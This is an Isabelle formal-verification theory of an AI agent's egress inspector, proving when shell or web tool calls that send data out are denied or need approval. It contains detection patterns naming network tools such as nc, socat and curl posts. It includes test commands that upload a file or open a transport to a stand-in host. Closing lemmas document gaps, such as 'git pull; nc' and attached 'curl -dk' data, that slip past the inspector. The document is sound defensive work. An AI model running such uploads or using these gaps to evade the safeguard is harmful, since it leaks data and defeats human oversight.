(* ===== verification/EgressInspector.thy ===== *)
theory EgressInspector
  imports ToolInspection RegexEngine Residency
begin

text \<open>
  The inspector of network egress (\<open>bharatcode-core/src/security/egress_inspector.rs\<close>): where a command or
  a URL would send data, in which direction, and what the posture makes of it. The regular expressions
  are matched by the engine \<open>rx\<close>; \<open>lower\<close> is \<open>str::to_lowercase\<close>.
\<close>

section \<open>Posture\<close>

datatype egress_posture = Enforcing | Advisory

definition posture_from_config :: "settings \<Rightarrow> egress_posture" where
  "posture_from_config cfg = (case effective_residency_mode cfg of
     ResidencyStrict \<Rightarrow> Enforcing | ResidencyOff \<Rightarrow> Advisory | ResidencyWarn \<Rightarrow> Advisory)"

datatype egress_direction = Outbound | Inbound | Unknown

record egress_destination =
  dest_kind :: str
  destination :: str
  domain :: str

section \<open>Destinations\<close>

definition split_first :: "uchar \<Rightarrow> str \<Rightarrow> str" where
  "split_first d s = takeWhile (\<lambda>c. c \<noteq> d) s"

definition split_last :: "uchar \<Rightarrow> str \<Rightarrow> str" where
  "split_last d s = rev (takeWhile (\<lambda>c. c \<noteq> d) (rev s))"

definition extract_domain_from_url :: "str \<Rightarrow> str option" where
  "extract_domain_from_url url =
     (let after = (case split_once url (lit ''://'') of Some (_, r) \<Rightarrow> r | None \<Rightarrow> url);
          host_port = split_last 64 (split_first 47 after);
          host = (if 91 \<in> set host_port then dropWhile (\<lambda>c. c = 91) (split_first 93 host_port)
                  else split_first 58 host_port)
      in if host = [] then None else Some host)"

text \<open>A group the pattern always sets.\<close>

definition the_group :: "str \<Rightarrow> regex_match \<Rightarrow> nat \<Rightarrow> str" where
  "the_group s m n = (case m_group s m n of Some t \<Rightarrow> t | None \<Rightarrow> [])"

definition url_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "url_destinations rx s = concat (List.map (\<lambda>m. case extract_domain_from_url (m_text s m) of
      Some d \<Rightarrow> [\<lparr>dest_kind = lit ''url'', destination = m_text s m, domain = d\<rparr>] | None \<Rightarrow> [])
    (rx_find_iter rx (pat ''(?i)(https?|ftp)://[^%s'\"<>|;&)]+'') s))"

definition git_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "git_destinations rx s = List.map (\<lambda>m. \<lparr>dest_kind = lit ''git_remote'',
      destination = lit ''git@'' @ the_group s m 1 @ lit '':'' @ the_group s m 2, domain = the_group s m 1\<rparr>)
    (rx_find_iter rx (pat ''git@([^:]+):([^%s'\"]+)'') s)"

definition bucket_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> str \<Rightarrow> str \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "bucket_destinations rx p kind host s = List.map (\<lambda>m. \<lparr>dest_kind = kind, destination = m_text s m,
      domain = the_group s m 1 @ host\<rparr>) (rx_find_iter rx p s)"

definition scp_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "scp_destinations rx s = List.map (\<lambda>m. \<lparr>dest_kind = lit ''scp_target'', destination = m_text s m,
      domain = the_group s m 1\<rparr>) (rx_find_iter rx (pat ''(?:scp|rsync)%s+.*?(?:%S+@)?([a-zA-Z0-9][%w.-]+):'') s)"

definition ssh_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "ssh_destinations rx s = List.map (\<lambda>m. \<lparr>dest_kind = lit ''ssh_target'', destination = m_text s m,
      domain = the_group s m 1\<rparr>)
    (filter (\<lambda>m. \<not> starts_with (the_group s m 1) (lit ''-''))
      (rx_find_iter rx (pat ''ssh%s+(?:-%w+%s+%S+%s+)*(?:%S+@)?([a-zA-Z0-9][%w.-]+)'') s))"

definition docker_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "docker_destinations rx s = List.map (\<lambda>m. \<lparr>dest_kind = lit ''docker_registry'', destination = the_group s m 1,
      domain = split_first 47 (the_group s m 1)\<rparr>)
    (rx_find_iter rx (pat ''docker%s+(?:push|login)%s+(?:--[^%s]+%s+)*([^%s'\"]+)'') s)"

definition generic_destinations :: "regex_engine \<Rightarrow> str list \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "generic_destinations rx seen s = List.map (\<lambda>m. \<lparr>dest_kind = lit ''generic_network'', destination = m_text s m,
      domain = the_group s m 2\<rparr>)
    (filter (\<lambda>m. the_group s m 2 \<notin> set seen)
      (rx_find_iter rx (pat (''(?i)%b(fetch|nc|ncat|netcat|ftp|sftp|socat|httpie|xh)%b[^%n]*?%b''
         @ ''((?:[a-zA-Z0-9](?:[a-zA-Z0-9%-]*[a-zA-Z0-9])?%.)+[a-zA-Z]{2,})%b'')) s))"

definition publish_destinations :: "regex_engine \<Rightarrow> str \<Rightarrow> str \<Rightarrow> str \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "publish_destinations rx p what host s =
     (if rx_is_match rx p s
      then [\<lparr>dest_kind = lit ''package_publish'', destination = what, domain = host\<rparr>] else [])"

definition extract_destinations :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> egress_destination list" where
  "extract_destinations rx lower s =
     (let known = url_destinations rx s @ git_destinations rx s
            @ bucket_destinations rx (pat ''s3://([^/%s'\"]+)(/[^%s'\"]*)?'') (lit ''s3_bucket'') (lit ''.s3.amazonaws.com'') s
            @ bucket_destinations rx (pat ''gs://([^/%s'\"]+)(/[^%s'\"]*)?'') (lit ''gcs_bucket'') (lit ''.storage.googleapis.com'') s
            @ scp_destinations rx s @ ssh_destinations rx s @ docker_destinations rx s
      in known @ generic_destinations rx (List.map (\<lambda>d. lower (domain d)) known) s
         @ publish_destinations rx (pat ''(?:^|[;&|]%s*|%n)%s*npm%s+publish(?:%s|$)'') (lit ''npm publish'') (lit ''registry.npmjs.org'') s
         @ publish_destinations rx (pat ''(?:^|[;&|]%s*|%n)%s*cargo%s+publish(?:%s|$)'') (lit ''cargo publish'') (lit ''crates.io'') s)"

section \<open>Direction\<close>

definition contains_any :: "str \<Rightarrow> str list \<Rightarrow> bool" where
  "contains_any s ps = list_ex (contains_str s) ps"

definition last_word :: "str \<Rightarrow> str option" where
  "last_word s = (case rev (split_whitespace s) of w # _ \<Rightarrow> Some w | [] \<Rightarrow> None)"

text \<open>The tests in their order; what they fall through to is the last argument.\<close>

definition inbound_fallback :: "str \<Rightarrow> egress_direction" where
  "inbound_fallback l =
     (if contains_any l [lit ''git clone'', lit ''git pull'', lit ''git fetch''] then Inbound
      else if contains_any l [lit ''curl '', lit ''wget ''] then Inbound
      else Unknown)"

definition object_store_direction :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> egress_direction" where
  "object_store_direction rx lower s =
     (if contains_any (lower s) [lit ''s3://'', lit ''gs://''] \<and> rx_is_match rx (pat ''(?i)%b(?:cp|mv|sync|rsync|put)%b'') s
      then (case last_word s of
          Some w \<Rightarrow> if starts_with (lower w) (lit ''s3://'') \<or> starts_with (lower w) (lit ''gs://'') then Outbound else Inbound
        | None \<Rightarrow> inbound_fallback (lower s))
      else inbound_fallback (lower s))"

definition copy_direction :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> egress_direction" where
  "copy_direction rx lower s =
     (if contains_any (lower s) [lit ''scp '', lit ''rsync '']
      then (case last_word s of
          Some w \<Rightarrow> if 58 \<in> set w then Outbound else Inbound
        | None \<Rightarrow> object_store_direction rx lower s)
      else object_store_direction rx lower s)"

definition detect_direction :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> egress_direction" where
  "detect_direction rx lower s = (let l = lower s in
     if contains_any l [lit ''git push'', lit ''git remote add''] then Outbound
     else if contains_any l [lit ''gh repo create'', lit ''gh repo fork''] then Outbound
     else if rx_is_match rx (pat (''(?i)%bcurl%b.*(-X%s*(POST|PUT|PATCH)|--data|--data-raw|--data-binary|-d(?:%s|@)''
        @ ''|-F(?:%s|@)|--form|--upload-file|-T(?:%s|@))'')) s then Outbound
     else if rx_is_match rx (pat ''(?i)%bwget%b.*(--post-data|--post-file|--body-data|--body-file)'') s then Outbound
     else if contains_any l [lit ''npm publish'', lit ''cargo publish'', lit ''pip upload'', lit ''twine upload'', lit ''gem push'']
     then Outbound
     else if contains_any l [lit ''docker push''] then Outbound
     else if contains_any l [lit ''docker pull''] then Inbound
     else copy_direction rx lower s)"

definition is_exfiltration_capable :: "str \<Rightarrow> egress_direction \<Rightarrow> bool" where
  "is_exfiltration_capable kind d = (case d of
     Outbound \<Rightarrow> True | Inbound \<Rightarrow> False | Unknown \<Rightarrow> kind = lit ''generic_network'')"

section \<open>Inspection\<close>

definition is_shell_tool :: "str \<Rightarrow> bool" where
  "is_shell_tool n = (n \<in> set (List.map lit [''shell'', ''bash'', ''execute_command'', ''run_command'', ''terminal''])
     \<or> list_ex (ends_with n) (List.map lit [''__shell'', ''__bash'', ''__terminal'']))"

definition is_web_tool :: "str \<Rightarrow> bool" where
  "is_web_tool n = (n \<in> set (List.map lit [''web_fetch'', ''fetch'', ''browser_navigate'', ''http_request''])
     \<or> list_ex (ends_with n) (List.map lit [''__web_fetch'', ''__fetch'', ''__browser_navigate'']))"

fun first_string :: "json_object \<Rightarrow> str list \<Rightarrow> str option" where
  "first_string m [] = None"
| "first_string m (k # ks) = (case Option.bind (map_of m k) json_as_str of
     Some s \<Rightarrow> Some s | None \<Rightarrow> first_string m ks)"

definition extract_text_for_inspection :: "call_params \<Rightarrow> bool \<Rightarrow> str option" where
  "extract_text_for_inspection c is_web = (case arguments c of None \<Rightarrow> None
   | Some m \<Rightarrow> first_string m (List.map lit (if is_web then [''url'', ''uri'', ''endpoint'']
       else [''command'', ''cmd'', ''script'', ''input''])))"

fun distinct_destinations :: "str list \<Rightarrow> egress_destination list \<Rightarrow> egress_destination list" where
  "distinct_destinations seen [] = []"
| "distinct_destinations seen (d # ds) =
     (if destination d \<in> set seen then distinct_destinations seen ds
      else d # distinct_destinations (destination d # seen) ds)"

definition join_destinations :: "egress_destination list \<Rightarrow> str" where
  "join_destinations ds = join_with (lit '', '') (List.map destination ds)"

definition egress_alert :: "str \<Rightarrow> str" where
  "egress_alert targets = [128274] @ lit '' Egress Alert'' @ [newline, newline]
     @ lit ''This command can send data off this machine to: '' @ targets @ [newline, newline]
     @ lit ''Approve only if you intend to transmit this data.''"

text \<open>What becomes of a text: no result without a destination.\<close>

definition judge_text ::
    "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> egress_posture \<Rightarrow> goose_mode \<Rightarrow> str \<Rightarrow> (inspection_action \<times> rat \<times> str) option" where
  "judge_text rx lower posture mode s =
     (let ds = distinct_destinations [] (extract_destinations rx lower s) in
      if ds = [] then None
      else
        let d = detect_direction rx lower s;
            exfiltrating = filter (\<lambda>x. is_exfiltration_capable (dest_kind x) d) ds;
            targets = join_destinations exfiltrating;
            conf = (if d = Outbound then 8 / 10 else 6 / 10)
        in Some
          (if exfiltrating = [] then (Allow, 0, lit ''Egress destinations detected: '' @ join_destinations ds)
           else (case posture of
             Enforcing \<Rightarrow> (Deny, conf, lit ''Blocked outbound egress to '' @ targets @ [32, 8212]
                @ lit '' offline/strict posture forbids sending data off this machine'')
           | Advisory \<Rightarrow>
               if mode = Auto
               then (Allow, conf, lit ''Exfiltration-capable egress to '' @ targets @ lit '' allowed by explicit auto mode'')
               else (RequireApproval (Some (egress_alert targets)), conf, lit ''Exfiltration-capable egress to '' @ targets))))"

text \<open>The text of a request that is inspected.\<close>

definition inspected_text :: "tool_request \<Rightarrow> str option" where
  "inspected_text r = (case tool_call r of Err _ \<Rightarrow> None
   | Ok c \<Rightarrow> (let is_web = is_web_tool (tool_name c) in
       if \<not> is_shell_tool (tool_name c) \<and> \<not> is_web then None
       else extract_text_for_inspection c is_web))"

definition egress_result ::
    "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> egress_posture \<Rightarrow> goose_mode \<Rightarrow> tool_request \<Rightarrow> inspection_result list" where
  "egress_result rx lower posture mode r =
     (case Option.bind (inspected_text r) (judge_text rx lower posture mode) of
        None \<Rightarrow> []
      | Some (a, conf, why) \<Rightarrow> [\<lparr>tool_request_id = request_id r, action = a, reason = why, confidence = conf,
            inspector_name = lit ''egress'', finding_id = None\<rparr>])"

definition inspect_egress ::
    "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> egress_posture \<Rightarrow> goose_mode \<Rightarrow> tool_request list \<Rightarrow> inspection_result list" where
  "inspect_egress rx lower posture mode reqs = concat (List.map (egress_result rx lower posture mode) reqs)"

text \<open>The inspector as the manager runs it.\<close>

definition egress_inspector :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> egress_posture \<Rightarrow> 'w tool_inspector" where
  "egress_inspector rx lower posture = \<lparr>inspector = lit ''egress'', is_enabled = True,
     inspect = (\<lambda>w reqs msgs mode. (w, Ok (inspect_egress rx lower posture mode reqs)))\<rparr>"

section \<open>What the inspector decides\<close>

text \<open>What the inspector itself takes for a transmission: a destination that its direction makes capable of one.\<close>

definition carries_data :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> bool" where
  "carries_data rx lower s = list_ex (\<lambda>d. is_exfiltration_capable (dest_kind d) (detect_direction rx lower s))
     (distinct_destinations [] (extract_destinations rx lower s))"

definition refuses_egress :: "egress_posture \<Rightarrow> goose_mode \<Rightarrow> bool" where
  "refuses_egress posture mode = (posture = Enforcing \<or> mode \<noteq> Auto)"

lemma carries_data_filter:
  "carries_data rx lower s \<longleftrightarrow> filter (\<lambda>x. is_exfiltration_capable (dest_kind x) (detect_direction rx lower s))
     (distinct_destinations [] (extract_destinations rx lower s)) \<noteq> []"
  by (simp add: carries_data_def list_ex_iff filter_empty_conv)

lemma judge_text_action:
  "(\<exists>a c w. judge_text rx lower posture mode s = Some (a, c, w) \<and> a \<noteq> Allow)
     \<longleftrightarrow> carries_data rx lower s \<and> refuses_egress posture mode"
proof -
  let ?ds = "distinct_destinations [] (extract_destinations rx lower s)"
  let ?ex = "filter (\<lambda>x. is_exfiltration_capable (dest_kind x) (detect_direction rx lower s)) ?ds"
  show ?thesis
  proof (cases "?ex = []")
    case True
    then have "\<not> carries_data rx lower s" using carries_data_filter by blast
    moreover have "a = Allow" if "judge_text rx lower posture mode s = Some (a, c, w)" for a c w
      using that True by (simp add: judge_text_def Let_def split: if_splits)
    ultimately show ?thesis by blast
  next
    case False
    then have c: "carries_data rx lower s" using carries_data_filter by blast
    have "?ds \<noteq> []" using False by auto
    with False have "\<exists>a c w. judge_text rx lower posture mode s = Some (a, c, w) \<and> (a \<noteq> Allow \<longleftrightarrow> refuses_egress posture mode)"
      by (cases posture) (simp_all add: judge_text_def Let_def refuses_egress_def)
    with c show ?thesis by force
  qed
qed

lemma judge_text_enforcing:
  assumes "carries_data rx lower s"
  shows "\<exists>c w. judge_text rx lower Enforcing mode s = Some (Deny, c, w)"
proof -
  have "filter (\<lambda>x. is_exfiltration_capable (dest_kind x) (detect_direction rx lower s))
      (distinct_destinations [] (extract_destinations rx lower s)) \<noteq> []"
    using assms carries_data_filter by blast
  moreover from this have "distinct_destinations [] (extract_destinations rx lower s) \<noteq> []" by auto
  ultimately show ?thesis by (simp add: judge_text_def Let_def)
qed

lemma egress_result_for:
  assumes "inspected_text r = Some s" and "judge_text rx lower posture mode s = Some (a, c, w)" and "r \<in> set reqs"
  shows "\<exists>res \<in> set (inspect_egress rx lower posture mode reqs). tool_request_id res = request_id r \<and> action res = a"
proof -
  have "egress_result rx lower posture mode r = [\<lparr>tool_request_id = request_id r, action = a, reason = w,
      confidence = c, inspector_name = lit ''egress'', finding_id = None\<rparr>]"
    using assms(1,2) by (simp add: egress_result_def)
  then obtain res where res: "res \<in> set (egress_result rx lower posture mode r)"
    "tool_request_id res = request_id r" "action res = a" by simp
  from res(1) assms(3) have "res \<in> set (inspect_egress rx lower posture mode reqs)"
    unfolding inspect_egress_def set_concat set_map by blast
  with res(2,3) show ?thesis by blast
qed

text \<open>
  What an upload to a URL is, whatever the inspector makes of the text: the command names one of the programs'
  commands that send data out, or is a \<open>curl\<close> or a \<open>wget\<close> with an option that posts data, as the engine matches
  the two patterns; and the engine finds a web address in it whose host starts with a letter or a digit and that
  has neither user information nor a bracketed address.
\<close>

definition UPLOAD_COMMANDS :: "str list" where
  "UPLOAD_COMMANDS = List.map lit [''git push'', ''git remote add'', ''gh repo create'', ''gh repo fork'', ''npm publish'',
     ''cargo publish'', ''pip upload'', ''twine upload'', ''gem push'', ''docker push'']"

definition CURL_POSTS :: str where
  "CURL_POSTS = pat (''(?i)%bcurl%b.*(-X%s*(POST|PUT|PATCH)|--data|--data-raw|--data-binary|-d(?:%s|@)''
     @ ''|-F(?:%s|@)|--form|--upload-file|-T(?:%s|@))'')"

definition WGET_POSTS :: str where
  "WGET_POSTS = pat ''(?i)%bwget%b.*(--post-data|--post-file|--body-data|--body-file)''"

definition WEB_ADDRESS :: str where
  "WEB_ADDRESS = pat ''(?i)(https?|ftp)://[^%s'\"<>|;&)]+''"

definition names_an_upload :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> bool" where
  "names_an_upload rx lower s = (list_ex (contains_str (lower s)) UPLOAD_COMMANDS
     \<or> rx_is_match rx CURL_POSTS s \<or> rx_is_match rx WGET_POSTS s)"

definition plain_address :: "str \<Rightarrow> bool" where
  "plain_address u = (case split_once u (lit ''://'') of
     Some (_, h # t) \<Rightarrow> (48 \<le> h \<and> h \<le> 57 \<or> 65 \<le> h \<and> h \<le> 90 \<or> 97 \<le> h \<and> h \<le> 122) \<and> 64 \<notin> set t \<and> 91 \<notin> set t
   | _ \<Rightarrow> False)"

definition uploads_to_url :: "regex_engine \<Rightarrow> (str \<Rightarrow> str) \<Rightarrow> str \<Rightarrow> bool" where
  "uploads_to_url rx lower s = (names_an_upload rx lower s
     \<and> list_ex (\<lambda>m. plain_address (m_text s m)) (rx_find_iter rx WEB_ADDRESS s))"

lemma names_an_upload_outbound: "names_an_upload rx lower s \<Longrightarrow> detect_direction rx lower s = Outbound \<or> contains_str (lower s) (lit ''docker push'')"
  by (auto simp: names_an_upload_def UPLOAD_COMMANDS_def CURL_POSTS_def WGET_POSTS_def detect_direction_def
      contains_any_def Let_def simp del: lit_Cons)

lemma docker_push_outbound: "contains_str (lower s) (lit ''docker push'') \<Longrightarrow> detect_direction rx lower s = Outbound"
  by (simp add: detect_direction_def contains_any_def Let_def del: lit_Cons)

lemma plain_address_domain: "plain_address u \<Longrightarrow> extract_domain_from_url u \<noteq> None"
proof -
  assume p: "plain_address u"
  then obtain a r where r: "split_once u (lit ''://'') = Some (a, r)"
    by (auto simp: plain_address_def simp del: lit_Cons split: option.splits)
  then obtain h t where ht: "r = h # t" using p by (cases r) (simp_all add: plain_address_def del: lit_Cons)
  have u: "split_once u (lit ''://'') = Some (a, h # t)" "h \<noteq> 47" "h \<noteq> 58" "h \<noteq> 64" "h \<noteq> 91"
    "64 \<notin> set t" "91 \<notin> set t"
    using p by (auto simp: plain_address_def r ht simp del: lit_Cons)
  let ?r = "h # takeWhile (\<lambda>c. c \<noteq> 47) t"
  have no: "64 \<notin> set ?r" "91 \<notin> set ?r" using u by (auto dest: set_takeWhileD)
  then have "rev (takeWhile (\<lambda>c. c \<noteq> 64) (rev ?r)) = ?r"
    by (subst takeWhile_eq_all_conv [THEN iffD2]) auto
  then have "split_last 64 (split_first 47 (h # t)) = ?r" using u(2) by (simp add: split_last_def split_first_def)
  moreover have "split_first 58 ?r \<noteq> []" using u(3) by (simp add: split_first_def)
  ultimately show ?thesis using no(2) by (simp add: extract_domain_from_url_def u(1) Let_def del: lit_Cons)
qed

lemma distinct_destinations_Nil: "distinct_destinations [] ds = [] \<longleftrightarrow> ds = []"
  by (cases ds) simp_all

lemma uploads_carry_data:
  assumes "uploads_to_url rx lower s"
  shows "carries_data rx lower s"
proof -
  have "names_an_upload rx lower s" using assms by (simp add: uploads_to_url_def)
  then have out: "detect_direction rx lower s = Outbound"
    using names_an_upload_outbound docker_push_outbound by blast
  obtain m where m: "m \<in> set (rx_find_iter rx WEB_ADDRESS s)" "plain_address (m_text s m)"
    using assms by (auto simp: uploads_to_url_def list_ex_iff)
  then obtain d where "extract_domain_from_url (m_text s m) = Some d" using plain_address_domain by blast
  with m(1) have "url_destinations rx s \<noteq> []"
    by (fastforce simp: url_destinations_def WEB_ADDRESS_def simp del: lit_Cons)
  then have "extract_destinations rx lower s \<noteq> []" by (simp add: extract_destinations_def Let_def)
  then have "distinct_destinations [] (extract_destinations rx lower s) \<noteq> []" by (simp add: distinct_destinations_Nil)
  with out show ?thesis by (simp add: carries_data_filter is_exfiltration_capable_def del: distinct_destinations.simps)
qed

lemma data_not_approved:
  assumes "egress_inspector rx lower posture \<in> set is" and "r \<in> set reqs" and "inspected_text r = Some s"
    and "carries_data rx lower s" and "refuses_egress posture mode"
    and "request_id r \<in> ids (approved p) \<union> ids (needs_approval p) \<union> ids (denied p)"
  shows "request_id r \<notin> ids (approved (apply_inspection_results_to_permissions p (snd (inspect_tools is w reqs msgs mode))))
     \<and> (posture = Enforcing \<longrightarrow> request_id r \<in> ids (denied
          (apply_inspection_results_to_permissions p (snd (inspect_tools is w reqs msgs mode)))))"
proof -
  let ?rs = "snd (inspect_tools is w reqs msgs mode)"
  have sub: "set (inspect_egress rx lower posture mode reqs) \<subseteq> set ?rs"
    using assms(1) by (rule inspect_tools_includes) (simp_all add: egress_inspector_def)
  obtain a c why where j: "judge_text rx lower posture mode s = Some (a, c, why)" "a \<noteq> Allow"
    using judge_text_action assms(4,5) by blast
  from egress_result_for [OF assms(3) j(1) assms(2)] sub j(2) have "overrides ?rs (request_id r)"
    by (auto simp: overrides_def list_ex_iff)
  then have "request_id r \<notin> ids (approved (apply_inspection_results_to_permissions p ?rs))"
    by (auto simp: approved_applied ids_def)
  moreover have "request_id r \<in> ids (denied (apply_inspection_results_to_permissions p ?rs))" if e: "posture = Enforcing"
  proof -
    obtain c why where "judge_text rx lower Enforcing mode s = Some (Deny, c, why)"
      using judge_text_enforcing assms(4) by blast
    from egress_result_for [OF assms(3) _ assms(2)] this e sub have "denies ?rs (request_id r)"
      by (fastforce simp: denies_def list_ex_iff)
    moreover from this have "?rs \<noteq> []" by (auto simp: denies_def)
    moreover have "request_map p (request_id r) \<noteq> None" using assms(6) request_map_known by blast
    ultimately show ?thesis
      using fold_apply_ids [where m = "request_map p" and p = p and rs = ?rs, OF request_map_id request_map_known]
      by (auto simp: apply_inspection_results_to_permissions_def)
  qed
  ultimately show ?thesis by blast
qed

text \<open>
  C11. An upload to a URL is not approved: a shell command that names one of the commands that send data out, or a
  \<open>curl\<close> or \<open>wget\<close> that posts data, and a plain web address is not among the approved calls of any pipeline the egress
  inspector is part of, unless the posture is advisory and the user chose automatic approval; under the enforcing
  posture it is denied.
\<close>
theorem egress_not_approved:
  assumes "egress_inspector rx lower posture \<in> set is" and "r \<in> set reqs" and "inspected_text r = Some s"
    and "uploads_to_url rx lower s" and "posture = Enforcing \<or> mode \<noteq> Auto"
    and "request_id r \<in> ids (approved p) \<union> ids (needs_approval p) \<union> ids (denied p)"
  shows "request_id r \<notin> ids (approved (apply_inspection_results_to_permissions p (snd (inspect_tools is w reqs msgs mode))))
     \<and> (posture = Enforcing \<longrightarrow> request_id r \<in> ids (denied
          (apply_inspection_results_to_permissions p (snd (inspect_tools is w reqs msgs mode)))))"
  using data_not_approved [OF assms(1-3) uploads_carry_data [OF assms(4)] _ assms(6), of mode w msgs] assms(5)
  by (simp add: refuses_egress_def)

text \<open>A post of a file to a web address, under the engine that reads the patterns.\<close>

definition curl_request :: tool_request where
  "curl_request = \<lparr>request_id = lit ''1'', tool_call = Ok \<lparr>tool_name = lit ''shell'',
     arguments = Some [(lit ''command'', JString (lit ''curl -d @k http://e.co''))]\<rparr>, request_metadata = None, tool_meta = None\<rparr>"

lemma curl_uploads: "uploads_to_url (documented_engine ascii_tables) to_ascii_lowercase (lit ''curl -d @k http://e.co'')"
  by code_simp

theorem egress_not_approved_witness:
  "lit ''1'' \<in> ids (denied (apply_inspection_results_to_permissions
     \<lparr>approved = [curl_request], needs_approval = [], denied = []\<rparr>
     (snd (inspect_tools [egress_inspector (documented_engine ascii_tables) to_ascii_lowercase Enforcing] () [curl_request] [] Auto))))"
proof -
  have t: "inspected_text curl_request = Some (lit ''curl -d @k http://e.co'')"
    by (simp add: inspected_text_def curl_request_def is_web_tool_def is_shell_tool_def extract_text_for_inspection_def
        ends_with_def strip_suffix_def)
  from egress_not_approved [of "documented_engine ascii_tables" to_ascii_lowercase Enforcing
      "[egress_inspector (documented_engine ascii_tables) to_ascii_lowercase Enforcing]" curl_request "[curl_request]"
      "lit ''curl -d @k http://e.co''" Auto "\<lparr>approved = [curl_request], needs_approval = [], denied = []\<rparr>" "()" "[]"]
    t curl_uploads
  show ?thesis by (simp add: ids_def curl_request_def del: lit_Cons)
qed

text \<open>A push to a remote that only has a name has no destination, and is not looked at under any posture.\<close>

lemma named_remote_not_seen:
  "judge_text (documented_engine ascii_tables) to_ascii_lowercase Enforcing Approve (lit ''git push origin main'') = None"
  by code_simp

text \<open>
  One direction is read off the whole line: a word of an inbound command hides a raw transport behind it, and
  nothing of the line is refused even under the enforcing posture.
\<close>

lemma inbound_not_refused:
  "detect_direction rx lower s = Inbound \<Longrightarrow> \<not> carries_data rx lower s"
  by (simp add: carries_data_def is_exfiltration_capable_def list_ex_iff)

lemma transport_hidden_by_pull:
  "map_option fst (judge_text (documented_engine ascii_tables) to_ascii_lowercase Enforcing Approve (lit ''git pull; nc e.co''))
     = Some Allow"
  by code_simp

text \<open>The data of \<open>curl\<close> attached to its option is not recognised as an upload.\<close>

lemma attached_data_inbound:
  "detect_direction (documented_engine ascii_tables) to_ascii_lowercase (lit ''curl -dk e.co'') = Inbound"
  by code_simp

end
